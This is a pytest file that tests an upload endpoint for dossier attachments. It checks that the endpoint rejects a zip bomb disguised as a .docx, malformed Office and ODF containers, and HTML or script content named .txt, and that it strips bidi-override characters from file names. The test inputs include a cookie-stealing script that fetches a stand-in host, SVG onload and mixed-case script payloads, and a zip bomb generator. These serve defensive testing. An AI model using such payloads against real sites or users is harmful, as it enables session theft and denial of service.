"""Bijlagen typed by content: ZIP containers checked for structure and inflated size, HTML refused, names cleaned."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from oso_dossier.settings import Settings

Auth = Callable[..., dict[str, str]]


@pytest.fixture
def settings() -> Settings:
    return Settings(log_json=False, bijlage_max_bytes=2_000_000, bijlagen_per_dossier_max_bytes=4_000_000)


def _zip(entries: list[tuple[str, bytes]], *, groot: tuple[str, int] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            zf.writestr(name, data)
        if groot is not None:
            # Streamed in blocks: a 200 MB member of zeros without 200 MB in memory.
            with zf.open(groot[0], "w", force_zip64=True) as member:
                blok = b"\x00" * (1 << 20)
                for _ in range(groot[1] >> 20):
                    member.write(blok)
    return buffer.getvalue()


OOXML = [("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", b"<Relationships/>")]


async def _upload(client: httpx.AsyncClient, auth: Auth, did: str, naam: str, data: bytes) -> httpx.Response:
    headers = {**auth(), "content-disposition": f"attachment; filename*=UTF-8''{quote(naam)}"}
    return await client.post(f"/v1/dossiers/{did}/bijlagen", content=data, headers=headers)


async def test_zip_bomb_named_docx_is_refused(
    client: httpx.AsyncClient, auth: Auth, maak_dossier: Callable[..., Any]
) -> None:
    bom = _zip([*OOXML, ("word/styles.xml", b"<w:styles/>")], groot=("word/document.xml", 200 << 20))
    assert len(bom) < 2_000_000  # small on the wire, 200 MB inflated
    did = (await maak_dossier(0))["id"]
    response = await _upload(client, auth, did, "verslag.docx", bom)
    assert response.status_code == 415, response.text
    assert response.json()["code"] == "BIJLAGE_INHOUD_ONGELDIG"
    assert (await client.get(f"/v1/dossiers/{did}/bijlagen", headers=auth())).json() == []


@pytest.mark.parametrize(
    ("naam", "data"),
    [
        ("verslag.docx", _zip([("[Content_Types].xml", b"<Types/>"), ("word/dokument.xml", b"<x/>"), ("word/a", b"")])),
        ("cijfers.xlsx", _zip([("xl/workbook.xml", b"<workbook/>")])),
        ("notitie.odt", _zip([("content.xml", b"<x/>"), ("mimetype", b"application/vnd.oasis.opendocument.text")])),
    ],
)
async def test_container_without_its_structure_is_refused(
    client: httpx.AsyncClient, auth: Auth, maak_dossier: Callable[..., Any], naam: str, data: bytes
) -> None:
    did = (await maak_dossier(0))["id"]
    response = await _upload(client, auth, did, naam, data)
    assert response.status_code == 415
    assert response.json()["code"] in {"BIJLAGE_INHOUD_ONGELDIG", "BIJLAGE_TYPE_NIET_TOEGESTAAN"}


@pytest.mark.parametrize(
    "inhoud",
    [
        b"<!DOCTYPE html><html><body>Verslag</body></html>",
        b"Gewoon een verslag.\n<script>fetch('https://x.example/'+document.cookie)</script>\n",
        b"  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"Verslag " * 2000 + b"<ScRiPt>alert(1)</script>",  # past the first block and the type check
    ],
)
async def test_html_or_script_named_txt_is_refused(
    client: httpx.AsyncClient, auth: Auth, maak_dossier: Callable[..., Any], inhoud: bytes
) -> None:
    did = (await maak_dossier(0))["id"]
    response = await _upload(client, auth, did, "notitie.txt", inhoud)
    assert (response.status_code, response.json()["code"]) == (415, "BIJLAGE_TYPE_NIET_TOEGESTAAN")


async def test_bidi_override_and_controls_are_stripped_from_the_name(
    client: httpx.AsyncClient, auth: Auth, maak_dossier: Callable[..., Any]
) -> None:
    did = (await maak_dossier(0))["id"]
    response = await _upload(client, auth, did, "verslag\u202egpj.txt", b"gewone tekst\n")
    assert response.status_code == 201, response.text
    assert response.json()["bestandsnaam"] == "verslaggpj.txt"
    response = await _upload(client, auth, did, "\u2067plan\u2069\x85\x1b.txt", b"nog een tekst\n")
    assert response.json()["bestandsnaam"] == "plan.txt"


async def test_sound_docx_within_bounds_is_accepted(
    client: httpx.AsyncClient, auth: Auth, maak_dossier: Callable[..., Any]
) -> None:
    did = (await maak_dossier(0))["id"]
    docx = _zip([*OOXML, ("word/document.xml", b"<w:document>" + b"<w:p>tekst</w:p>" * 5000 + b"</w:document>")])
    response = await _upload(client, auth, did, "plan.docx", docx)
    assert (response.status_code, response.json()["soort"]) == (201, "docx")
